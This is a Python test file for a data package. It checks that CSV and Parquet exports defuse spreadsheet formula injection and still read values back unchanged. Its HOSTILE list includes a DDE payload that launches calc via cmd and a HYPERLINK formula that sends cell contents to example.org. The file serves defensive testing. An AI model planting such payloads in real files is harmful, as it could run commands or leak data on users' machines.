"""No text of data becomes a formula in a CSV, and each comes back as it was."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from wherenext import city

from pgt import files
from pgt.cli import main
from pgt.io import tables
from pgt.scale import duck

from ..helpers import ROOT, routine_visits

HOSTILE = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "home;=1+1",
    "home\t=1+1",
    "home\r\n=1+1",
    "a,-2|@b",
    "'=1+1",
    "''=1+1",
    "'\t'=1",
    "-3.2",
    "=",
)
HARMLESS = ("ann", "'s-Hertogenbosch", "a = b", "1-2", "O'Neill", "007", "''", " =1", "#N", "é")


def runs(text: str) -> bool:
    """Whether some program would run a part of this text, wherever it cuts it into cells."""
    return any(
        re.match("[=+@＝-]", cell.lstrip("\t\r\n")) for cell in re.split("[,;|\t\r\n]", text)
    )


def visits(names: tuple[str, ...]) -> pd.DataFrame:
    """Somebody for every name, who goes to a place of that name."""
    table = routine_visits(users=len(names), days=20)
    table["location_id"] = (
        table.user_id.map(names.__getitem__) + "-" + table.location_id.astype(str)
    )
    return table.assign(user_id=table.user_id.map(names.__getitem__), effect=-3.2)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_is_defused_and_comes_back(text: str) -> None:
    table = pd.DataFrame({"id": [text, "ann", None], text: [1, -2, -3]})
    safe = files.defused(table)
    assert not any(map(runs, [safe.id[0], *safe.columns]))
    assert table.id[0] == text and safe.iloc[:, 1].tolist() == [1, -2, -3]
    pd.testing.assert_frame_equal(files.plain(safe), table)
    pd.testing.assert_frame_equal(files.plain(files.defused(safe)), safe)
    kinds = pd.DataFrame({"id": pd.Categorical([text, "ann", text])})
    assert not any(map(runs, files.defused(kinds).id))


@pytest.mark.parametrize("kind", ["str", "string[python]", "string[pyarrow]", object])
@pytest.mark.parametrize("rows", [slice(None), slice(3, None), slice(None, None, -1), slice(0)])
def test_an_apostrophe_is_found_however_texts_are_held(kind: Any, rows: slice) -> None:
    texts = pd.Series(["ann", None, "é", "home", "'=1+1"], dtype=kind)
    table = pd.DataFrame({"id": pd.concat([pd.Series(["bob"], dtype=kind), texts])[rows]})
    expected = [files.plain_text(t) if isinstance(t, str) else None for t in table.id]
    found = files.plain(table).id
    assert [t if isinstance(t, str) else None for t in found] == expected
    assert ("=1+1" in expected) == (rows != slice(0))


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_are_left_alone(text: str) -> None:
    table = pd.DataFrame({"id": [text, "ann"], "n": [-1.5, 2.0]})
    assert files.defused(table).values.tolist() == table.values.tolist()
    assert files.plain(table).values.tolist() == table.values.tolist()


def test_only_a_carriage_return_makes_quotes() -> None:
    table = pd.DataFrame({"id": ["ann", "bob"], "n": [1, 2]})
    assert files.write_csv(table) == "id,n\nann,1\nbob,2\n"
    assert files.write_csv(table.replace("bob", "b\rb")) == '"id","n"\n"ann",1\n"b\rb",2\n'


@pytest.mark.parametrize("change", [files.defused, files.plain])
def test_columns_without_such_a_text_are_the_same_objects(change: Any) -> None:
    table = pd.DataFrame({"n": [1, 2], "id": ["ann", "bob"], "any": [1, "ann"]}, dtype=object)
    done = change(table)
    for name in table:
        assert np.shares_memory(done[name].to_numpy(), table[name].to_numpy()), name


@pytest.mark.filterwarnings("ignore::pgt.errors.DataNote")
@pytest.mark.parametrize("names", [HOSTILE, HARMLESS[:3]])
def test_what_is_written_is_read_again(names: tuple[str, ...], tmp_path: Path) -> None:
    table = visits(names)
    for ending in ("csv", "parquet"):
        tables.write(table, tmp_path / f"v.{ending}")
        again = tables.read(tmp_path / f"v.{ending}", timezone="Europe/Vienna")
        expected = table.sort_values(["user_id", "started_at"], ignore_index=True)
        for name in ("user_id", "location_id", "started_at", "effect"):
            assert again[name].tolist() == expected[name].tolist()
    text = (tmp_path / "v.csv").read_bytes().decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert not any(runs(cell) for row in rows for cell in row if cell != "-3.2")
    assert set(pd.read_parquet(tmp_path / "v.parquet").user_id) == set(names)


@pytest.mark.filterwarnings("ignore::pgt.errors.DataNote")
def test_an_engine_reads_the_same_ids(tmp_path: Path) -> None:
    names = tuple(name for name in HOSTILE if not re.search("[\r\n]", name))
    tables.write(visits(names), tmp_path / "v.csv")
    with duck.connect("200MB") as connection:
        source = duck.visits(connection, [str(tmp_path / "v.csv")], duck.Reading())
        found = connection.sql(f"SELECT DISTINCT user_id, location_id FROM ({source.sql})").df()
    expected = tables.read(tmp_path / "v.csv")
    assert set(found.user_id) == set(names)
    assert set(found.location_id) == set(expected.location_id)


def test_a_city_of_formulas_is_the_same_city_again(tmp_path: Path) -> None:
    town = city.load()
    hostile = replace(town, places=town.places.assign(name="=1+1", district="@home"))
    city.save(hostile, tmp_path / "town")
    with (tmp_path / "town" / "places.csv").open(encoding="utf-8") as file:
        row = next(iter(csv.DictReader(file)))
    assert (row["name"], row["district"]) == ("'=1+1", "'@home")
    again = city.load(tmp_path / "town")
    assert again.places[["name", "district"]].iloc[0].tolist() == ["=1+1", "@home"]


def test_predictions_that_are_written_run_nothing(tmp_path: Path) -> None:
    tables.write(visits(HOSTILE), tmp_path / "v.parquet")
    out = tmp_path / "next.csv"
    assert main(["predict", str(tmp_path / "v.parquet"), "--out", str(out)]) == 0
    with out.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert len({row["user_id"] for row in rows}) == len(HOSTILE)
    assert not any(runs(row[name]) for row in rows for name in ("user_id", "location_id"))


def test_every_writer_of_csv_goes_through_one_place() -> None:
    found = {
        path.relative_to(ROOT).as_posix()
        for path in (ROOT / "pgt").rglob("*.py")
        if re.search(r"\.to_csv\(|csv\.writer|DictWriter", path.read_text(encoding="utf-8"))
    }
    assert found == {"pgt/files/cells.py"}
